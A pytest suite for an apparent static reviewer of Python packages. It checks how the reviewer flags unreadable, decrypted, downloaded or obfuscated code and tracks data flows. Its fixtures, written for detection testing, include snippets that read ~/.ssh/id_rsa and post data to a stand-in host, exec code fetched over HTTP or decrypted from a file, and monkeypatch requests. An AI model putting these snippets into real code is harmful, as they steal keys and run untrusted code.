"""What docs/limits.md says the reader cannot see, and how the review shows it."""

from __future__ import annotations

from pathlib import Path

import pytest

from pratique.pipeline import Options, review_files

LIMITS = Path(__file__).resolve().parents[2] / "docs" / "limits.md"
INIT = "acme/__init__.py"
SECRET = "open(os.path.expanduser('~/.ssh/id_rsa')).read()"
METHODS = "\n".join(f"class C{at}:\n    def handle(self):\n        pass\n" for at in range(9))


def review(**files):
    """Review modules of a package: `init` is its own, others go by their names."""
    named = {INIT if name == "init" else f"acme/{name.replace('__', '.')}": text for name, text in files.items()}
    packed = {path: text if isinstance(text, bytes) else text.encode() for path, text in named.items()}
    return review_files(packed, options=Options(audience="everything"))


def unknowns(found):
    return {one.kind for one in found.unknowns}


def rules(found):
    return {one.rule for one in found.findings}


@pytest.mark.parametrize(
    "source", ["exec(input())\n", "import importlib\nimport sys\nimportlib.import_module(sys.argv[1])\n"]
)
def test_code_and_imports_from_input_are_unresolved(source):
    found = review(init=source)

    assert unknowns(found) == {"unresolved"}
    assert found.verdict.level == "note"


def test_native_code_that_is_loaded_is_opaque():
    found = review(init="from . import _core\n", _core__so=b"\x7fELF" + bytes(200))

    assert unknowns(found) == {"opaque"}
    assert found.verdict.level == "note"


def test_a_program_that_nobody_reads_is_opaque_where_it_is_started():
    start = "import os\nimport subprocess\nsubprocess.run(['node', os.path.join(os.path.dirname(__file__), 'a.js')])\n"
    found = review(init=start, a__js="console.log('hello')\n")

    assert "opaque" in unknowns(found)
    assert "start-unread-programs-on-import" in rules(found)


def test_protected_code_is_named():
    found = review(init="from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, b'PYA')\n")

    assert "ship-protected-code" in rules(found)


def test_a_key_from_elsewhere_leaves_the_code_unread():
    found = review(
        init="import os\nfrom cryptography.fernet import Fernet\n"
        "exec(Fernet(os.environ['K']).decrypt(open('/tmp/acme.bin', 'rb').read()))\n"
    )

    assert unknowns(found) == {"unresolved"}
    assert found.layers == ()
    assert "run-decrypted-code" in rules(found)


def test_what_a_server_answers_is_a_flow():
    found = review(init="import requests\nexec(requests.get('https://a.acme.invalid/x').text)\n")

    assert found.flows
    assert "run-downloaded-code" in rules(found)


def test_other_packages_are_silent():
    found = review(init="import helper_of_acme\nhelper_of_acme.start()\n")

    assert (found.uses, found.unknowns, found.verdict.level) == ((), (), "clear")


def test_an_attribute_by_an_unknown_name_is_reflection():
    found = review(init="import os\nimport sys\ngetattr(os, sys.argv[1])('x')\n")

    assert ("reflect", "computed") in {(one.capability, one.operand) for one in found.uses}
    assert found.unknowns == ()


def test_more_than_eight_methods_of_one_name_are_unresolved():
    found = review(init=f"{METHODS}\ndef go(x):\n    x.handle()\n")

    assert unknowns(found) == {"unresolved"}


def test_work_beyond_its_data_is_not_computed():
    found = review(init="x = 1\nfor i in range(10**9):\n    x = (x * 75 + 74) % 65537\nexec(bytes([x % 256] * 9))\n")

    assert unknowns(found) == {"unresolved"}
    assert found.layers == ()


def test_a_database_ends_a_flow():
    opened = "sqlite3.connect('/tmp/a.db').execute"
    found = review(
        init=f"import os\nimport sqlite3\n{opened}('insert into t values (?)', ({SECRET},))\n",
        out__py=f"import requests\nimport sqlite3\n\n\ndef go():\n    rows = {opened}('select')\n"
        "    requests.post('https://a.acme.invalid/x', data=rows.fetchall())\n",
    )

    assert {"fs.read", "network.http"} <= {one.capability for one in found.uses}
    assert "send-secrets-out" not in rules(found)


def test_a_patch_is_a_capability():
    found = review(init="import requests\n\n\ndef mine(*a):\n    return None\n\n\nrequests.get = mine\n")

    assert "runtime.patch" in {one.capability for one in found.uses}


def test_every_mark_has_a_test():
    """The page marks what is checked here; a new mark wants a new test."""
    checks = [name for name in globals() if name.startswith("test_") and name != "test_every_mark_has_a_test"]

    assert LIMITS.read_text("utf-8").count("✓") - 1 == len(checks)
